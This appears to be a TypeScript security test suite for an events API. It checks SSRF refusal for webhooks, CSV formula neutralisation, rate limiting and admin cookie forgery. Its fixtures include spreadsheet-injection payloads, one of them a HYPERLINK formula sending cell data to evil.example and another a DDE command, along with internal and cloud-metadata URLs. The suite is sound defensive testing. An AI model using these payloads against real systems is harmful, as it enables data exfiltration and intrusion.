import { AddressInfo } from 'node:net';
import { createServer, Server } from 'node:http';
import { expectProblem, TestApi } from '../support/api';
import { NotificationStack, soonProgramme } from '../support/stack';
import { World } from '../support/world';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1)',
  '+SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
];

describe('security: what is protected and how', () => {
  let api: TestApi;
  let world: World;
  let admin: string;
  let organizer: { organization: any; token: string };
  let item: any;

  beforeAll(async () => {
    // No webhook allow-list here (the other suites allow 127.0.0.1), a low check-in limit, no metrics token.
    api = await TestApi.start({ WEBHOOK_ALLOW_HOSTS: '', CHECKIN_FAILURE_LIMIT: '3', METRICS_TOKEN: '' });
    world = new World(api);
    admin = await world.adminToken();
    const tree = await world.venueTree();
    organizer = await world.organizer();
    const programme = await world.programme(organizer, tree.pavilion, {
      startsOn: '2031-06-02',
      endsOn: '2031-06-03',
      publish: true,
    });
    item = await world.item(organizer.token, programme, {
      type: 'round_table',
      title: 'Round table',
      spaceId: tree.room.id,
      startsAt: '2031-06-02T10:00',
      endsAt: '2031-06-02T11:00',
    });
  });
  afterAll(() => api.close());

  describe('webhook targets (SSRF)', () => {
    it.each([
      'http://127.0.0.1:3700/admin/queues',
      'http://localhost:3701/',
      'http://127.0.0.1:6379/',
      'http://[::1]:5432/',
      'http://0.0.0.0/',
      'http://0x7f000001/',
      'http://169.254.169.254/latest/meta-data/',
      'http://metadata.google.internal/computeMetadata/v1/',
      'http://10.0.0.1/',
      'http://192.168.1.1/',
      'http://user:pass@127.0.0.1/',
      'http://[::ffff:127.0.0.1]/',
    ])('refuses %s at creation', async (url) => {
      const res = await api.post(
        `/api/organizations/${organizer.organization.id}/webhooks`,
        { url },
        { token: organizer.token },
      );
      expectProblem(res, 400);
      expect(res.body.errors[0].field).toBe('url');
    });
  });

  it('neutralises spreadsheet formulas in the registrants CSV (OWASP)', async () => {
    for (const displayName of FORMULAS) {
      const person = await world.signup({ displayName });
      await world.ok(api.post(`/api/items/${item.id}/registrations`, {}, { token: person.token }));
    }
    const csv = await api.get(`/api/items/${item.id}/registrations.csv`, { token: organizer.token });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('cache-control')).toBe('no-store');
    const names = csv.text
      .split(/\r?\n(?=[0-9a-f]{8}-)/)
      .slice(1)
      .map((line) => line.split(',')[1]);
    expect(names).toHaveLength(FORMULAS.length);
    for (const name of names) expect(name.replace(/^"/, '')).toMatch(/^'/);
  });

  it('says no-store on responses that carry secrets, and private, no-cache on the personal feed', async () => {
    const person = await world.signup();
    const login = await api.post('/api/auth/login', { email: person.email, password: person.password });
    expect(login.headers.get('cache-control')).toBe('no-store');
    const me = await api.get('/api/me', { token: person.token });
    expect(me.headers.get('cache-control')).toBe('no-store');
    expect(
      (await api.patch('/api/me', { locale: 'ru' }, { token: person.token })).headers.get('cache-control'),
    ).toBe('no-store');
    const feed = await api.get(`/api/me/agenda.ics?token=${me.body.calendarFeedToken}`);
    expect(feed.status).toBe(200);
    expect(feed.headers.get('cache-control')).toBe('private, no-cache');
  });

  it('limits wrong check-in codes per item and caller (429), leaving other callers alone', async () => {
    const person = await world.signup();
    const registration = await world.ok(
      api.post(`/api/items/${item.id}/registrations`, {}, { token: person.token }),
    );
    const tryCode = (code: string, token: string) =>
      api.post(`/api/items/${item.id}/check-ins`, { code }, { token });
    for (const code of ['AAAAAAA1', 'AAAAAAA2', 'AAAAAAA3'])
      expectProblem(await tryCode(code, organizer.token), 404);
    // Past the limit even the right code is refused for this caller.
    const limited = await tryCode(registration.checkInCode, organizer.token);
    expectProblem(limited, 429);
    expect(limited.headers.get('retry-after')).toBeTruthy();
    const byAdmin = await tryCode(registration.checkInCode, admin);
    expect(byAdmin.status).toBe(201);
  });

  it('does not serve /metrics without METRICS_TOKEN', async () => {
    expectProblem(await api.get('/metrics'), 404);
    expectProblem(
      await api.get('/metrics', { headers: { authorization: 'Bearer anything-at-all-here' } }),
      404,
    );
  });

  describe('the queue dashboard from a browser', () => {
    const cookieOf = (res: { headers: Headers }) => (res.headers.get('set-cookie') ?? '').split(';')[0];

    it('signs an admin in with a short-lived signed HTTP-only cookie that opens the page, assets and API', async () => {
      const page = await api.get('/admin/sign-in');
      expect(page.status).toBe(200);
      expect(page.text).toContain('<form method="post" action="/admin/sign-in">');

      const signIn = await api.post('/admin/sign-in', {
        email: 'admin@e2e.test',
        password: 'e2e-admin-password',
      });
      expect(signIn.status).toBe(204);
      const setCookie = signIn.headers.get('set-cookie') as string;
      expect(setCookie).toMatch(
        /^pavilion_admin=[^;]+; Path=\/admin; Max-Age=1800; HttpOnly; SameSite=Strict/,
      );
      const cookie = { cookie: cookieOf(signIn) };

      const dashboard = await api.get('/admin/queues', { headers: cookie });
      expect(dashboard.status).toBe(200);
      expect(dashboard.text).toContain('<html');
      const queues = await api.get('/admin/queues/api/queues', { headers: cookie });
      expect(queues.status).toBe(200);
      expect(JSON.stringify(queues.body)).toContain('deliveries');

      // The page's form: a 303 on to the dashboard, with the cookie.
      const form = await fetch(`${api.baseUrl}/admin/sign-in`, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: 'email=admin%40e2e.test&password=e2e-admin-password',
        redirect: 'manual',
      });
      expect(form.status).toBe(303);
      expect(form.headers.get('set-cookie')).toMatch(/^pavilion_admin=/);
      expect(form.headers.get('location')).toBe('/admin/queues/');
    });

    it("lets an admin signed in on the public site in with the site's session", async () => {
      const person = await world.signup();
      const site = (token: string) => ({ headers: { cookie: `pavilion_session=${token}` } });
      expect((await api.get('/admin/queues', site(admin))).status).toBe(200);
      expectProblem(await api.get('/admin/queues', site(person.token)), 403);
      expectProblem(await api.get('/admin/queues', site('not-a-token')), 401);
    });

    it('refuses everyone else: wrong password, a non-admin, a forged or altered cookie', async () => {
      expectProblem(
        await api.post('/admin/sign-in', { email: 'admin@e2e.test', password: 'not-the-password' }),
        401,
      );
      const person = await world.signup();
      expectProblem(
        await api.post('/admin/sign-in', { email: person.email, password: person.password }),
        403,
      );
      const signIn = await api.post('/admin/sign-in', {
        email: 'admin@e2e.test',
        password: 'e2e-admin-password',
      });
      const [name, value] = cookieOf(signIn).split('=');
      const [userId, expires, mac] = value.split('.');
      for (const forged of [
        `${name}=${userId}.${Number(expires) + 3600}.${mac}`,
        `${name}=${person.user.id}.${expires}.${mac}`,
        `${name}=${value}x`,
        `${name}=garbage`,
      ]) {
        expectProblem(await api.get('/admin/queues', { headers: { cookie: forged } }), 401);
        expectProblem(await api.get('/admin/queues/api/queues', { headers: { cookie: forged } }), 401);
      }
    });
  });
});

describe('security: a webhook whose target turned private is refused at delivery', () => {
  let stack: NotificationStack;
  let receiver: Server;
  let hits = 0;

  beforeAll(async () => {
    stack = await NotificationStack.start('ssrf', { WEBHOOK_ALLOW_HOSTS: '' });
    receiver = createServer((_req, res) => {
      hits++;
      res.end();
    });
    await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
  });
  afterAll(async () => {
    await new Promise((resolve) => receiver.close(resolve));
    await stack.close();
  });

  it('checks the address again when it sends, fails the delivery at once and never connects', async () => {
    const setup = await soonProgramme(stack.world);
    // As if the name had resolved to a public address at creation and DNS now answers 127.0.0.1.
    const url = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/hook`;
    const [hook] = (
      await stack.db.query(
        `INSERT INTO webhooks (organization_id, url, secret) VALUES ($1, $2, $3) RETURNING id`,
        [setup.organizer.organization.id, url, `whsec_${Buffer.alloc(32, 7).toString('base64')}`],
      )
    ).rows;
    const start = new Date(Date.now() + 2 * 3600_000);
    const item = await stack.world.item(setup.organizer.token, setup.programme, {
      type: 'round_table',
      title: 'Round table',
      spaceId: setup.tree.room.id,
      startsAt: start.toISOString(),
      endsAt: new Date(start.getTime() + 1800_000).toISOString(),
    });
    const person = await stack.world.signup();
    await stack.world.ok(stack.api.post(`/api/items/${item.id}/registrations`, {}, { token: person.token }));
    const failed = await stack.failedDelivery((d) => d.webhookId === hook.id, 'the refused webhook delivery');
    expect(failed).toMatchObject({ status: 'failed', attempts: 1 });
    expect(failed.lastError).toMatch(/public address/);
    expect(hits).toBe(0);
  });
});
